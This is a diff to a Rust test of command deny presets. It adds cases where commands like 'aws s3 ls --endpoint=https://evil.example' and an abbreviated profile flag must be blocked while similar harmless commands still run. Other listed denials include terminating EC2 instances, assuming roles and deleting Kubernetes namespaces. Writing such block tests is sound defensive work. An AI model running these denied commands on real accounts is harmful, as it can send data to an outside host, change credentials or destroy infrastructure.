@@ -132,6 +132,8 @@ fn each_preset_denies_what_it_is_for_and_lets_its_twin_run() {
         ("aws", "aws sts assume-role --role-arn x", "aws sts get-caller-identity"),
         ("aws", "aws ec2 terminate-instances --instance-ids i", "aws ec2 describe-tags"),
         ("aws", "aws s3 ls --endpoint-url https://evil.example", "aws s3 ls s3://bucket"),
+        ("aws", "aws s3 ls --endpoint=https://evil.example", "aws sagemaker describe-endpoint --endpoint-name e"),
+        ("aws", "aws s3 ls --prof x", "aws s3 ls --page-size 5"),
         ("aws", "aws configure list", "aws logs tail g"),
         ("aws", "aws s3 ls --debug", "aws s3 ls --output json"),
         ("kubectl", "kubectl delete namespace x", "kubectl delete pod x"),
